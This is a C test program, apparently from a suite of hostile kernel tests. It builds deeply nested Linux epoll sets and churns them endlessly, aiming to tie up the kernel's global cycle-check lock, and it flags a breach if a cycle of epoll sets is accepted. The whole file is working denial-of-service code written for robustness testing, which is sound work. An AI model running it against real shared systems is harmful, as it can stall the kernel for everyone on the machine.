// Attacks: a lock of the whole kernel, by sets of descriptors inside sets that must be searched for circles under it.
#include "../hostile.h"
#include <sys/epoll.h>
int main(void) {
  enum { layers = 4, width = 40 };
  int sets[layers][width];
  for (int i = 0; i < layers; i++) {
    for (int k = 0; k < width; k++) sets[i][k] = epoll_create1(0);
  }
  struct epoll_event event = {.events = EPOLLIN | EPOLLET};
  for (int i = 0; i + 1 < layers; i++) {
    for (int k = 0; k < width; k++) {
      for (int j = 0; j < width; j++) epoll_ctl(sets[i][k], EPOLL_CTL_ADD, sets[i + 1][j], &event);
    }
  }
  int root = epoll_create1(0);
  for (int round = 0;; round++) {
    epoll_ctl(root, EPOLL_CTL_ADD, sets[0][round % width], &event);
    epoll_ctl(root, EPOLL_CTL_DEL, sets[0][round % width], &event);
    // A circle must be refused.
    if (epoll_ctl(sets[layers - 1][0], EPOLL_CTL_ADD, root, &event) == 0 &&
        epoll_ctl(root, EPOLL_CTL_ADD, sets[0][0], &event) == 0)
      BREACH("a circle of %d layers", layers + 1);
    epoll_ctl(sets[layers - 1][0], EPOLL_CTL_DEL, root, &event);
    epoll_ctl(root, EPOLL_CTL_DEL, sets[0][0], &event);
  }
}
